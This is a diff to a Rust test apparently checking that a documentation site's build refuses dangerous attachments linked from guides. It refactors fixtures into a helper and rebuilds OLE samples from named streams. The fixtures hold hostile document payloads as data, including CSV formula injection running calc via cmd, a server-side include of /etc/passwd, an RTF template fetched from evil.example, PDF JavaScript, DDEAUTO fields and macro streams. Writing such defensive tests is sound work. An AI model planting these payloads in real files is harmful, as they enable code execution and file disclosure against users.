@@ -364,7 +364,6 @@ fn attached_pages_scripts_and_programs() {
         ("x.ics", b"MZ\x90BEGIN:VCALENDAR"),
         ("x.vtt", b"WEBVTT\n\n<!--#include virtual=\"/etc/passwd\" -->"),
         ("x.csv", b"name,number\n=cmd|' /C calc'!A0,1\n"),
-        ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x01\0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0"),
         ("x.rtf", b"{\\rtf1{\\*\\template http://evil.example/a.dotm}}"),
         ("x.txt", b"a\0<script>"),
         ("x.pdf", b"%PDF-1.7\n<</S/Rendition/JS(app.alert)>>"),
@@ -403,31 +402,34 @@ fn attached_pages_scripts_and_programs() {
         ("x.csv", b"a\n-2+3+cmd|' /C calc'!A0\n"),
         ("x.csv", b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n"),
         ("x.rtf", b"{\\rtf1{\\field{\\*\\fldinst {D}{D}EAUTO c}}}"),
-        ("x.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x85\0\x0e\0\x11\x22\0\0\0\x01\x06\0Macro1"),
-        (
-            "x.xls",
-            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x09\x08\x08\0\0\x05\x05\0aaaa\x2f\0\x04\0bbbb",
-        ),
-        (
-            "x.xls",
-            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0",
-        ),
-        (
-            "x.ppt",
-            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x10\0\x11\x10\x08\0\0\0\x02\0\0\0x\x9c\x01\x02",
-        ),
-        ("x.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x14\0\0\0\xdf\xc4\xd1\xf3"),
         ("x.mp3", b"ID3\x04\0\0\0\0\0\0Rar!\x1a\x07\x01\0"),
         ("x.wav", b"RIFF\0\0\0\0WAVE7z\xbc\xaf\x27\x1c"),
         ("x.mov", b"\0\0\0\x14ftypqt  \0\0\0\0moovrmrardrf\0\0\0\0url https://evil.example/a.mov"),
     ] {
-        let path = format!("content/guides/first/{name}");
-        let sample = Sample::new()
-            .text("content/guides/first/sq.md", "I pari", &format!("[a]({name})\n"))
-            .bytes(&path, content);
-        let findings = sample.check();
-        findings.are_about("attachment", &path);
+        is_refused(name, content);
     }
+    for (name, stream, content) in [
+        ("x.doc", "\u{1}Ole10Native", &b"a"[..]),
+        ("x.doc", "_VBA_PROJECT", b"a"),
+        ("x.doc", "WordDocument", b"\x13DDEAUTO c:\\a \x14"),
+        ("x.xls", "Workbook", b"\x85\0\x0e\0\x11\x22\0\0\0\x01\x06\0Macro1"),
+        ("x.xls", "Book", b"\x09\x08\x08\0\0\x05\x05\0aaaa\x2f\0\x04\0bbbb"),
+        ("x.xls", "EncryptedPackage", b"a"),
+        ("x.ppt", "PowerPoint Document", b"\x10\0\x11\x10\x08\0\0\0\x02\0\0\0x\x9c\x01\x02"),
+        ("x.ppt", "Current User", b"\x14\0\0\0\xdf\xc4\xd1\xf3"),
+    ] {
+        is_refused(name, &support::with_stream(stream, content));
+    }
+}
+
+/// Links a file from a guide, and expects that it is not published.
+#[track_caller]
+fn is_refused(name: &str, content: &[u8]) {
+    let path = format!("content/guides/first/{name}");
+    let sample = Sample::new()
+        .text("content/guides/first/sq.md", "I pari", &format!("[a]({name})\n"))
+        .bytes(&path, content);
+    sample.check().are_about("attachment", &path);
 }
 
 #[test]
